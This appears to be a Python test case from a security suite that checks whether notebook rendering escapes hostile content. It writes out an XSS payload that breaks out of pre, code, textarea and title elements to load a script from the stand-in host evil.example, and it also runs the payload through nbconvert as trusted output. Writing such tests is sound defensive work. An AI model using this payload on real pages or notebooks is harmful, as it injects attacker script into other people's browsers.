# Code, error and output that end the element they stand in.
# stopped by: all text is escaped where it is put into a page
# control: own
# expect: graded 0

import json

from target import cells_of, notebook, obeyed

MARK = "evil.example"
PAYLOAD = "</pre></code></textarea></title><script src='//evil.example/a.js'></script><pre>"


def make(folder, name, honest):
    found = notebook(cells_of({}, {"": f"print({PAYLOAD!r})\n# {PAYLOAD}\nclass E(Exception):\n    __qualname__ = __name__ = {PAYLOAD!r}\nraise E({PAYLOAD!r})"}))
    (folder / f"{name}.ipynb").write_text(json.dumps(found))


def control(folder):
    """The same in a page as nbconvert writes it for whoever trusts the notebook."""
    from nbconvert import HTMLExporter
    from nbformat import from_dict

    cells = [{"cell_type": "code", "id": "a", "source": "", "metadata": {}, "execution_count": 1, "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": PAYLOAD}}]}]
    page, _ = HTMLExporter().from_notebook_node(from_dict(notebook([]) | {"cells": cells}))
    return browsed(page)


def browsed(page):
    return obeyed(page, MARK)
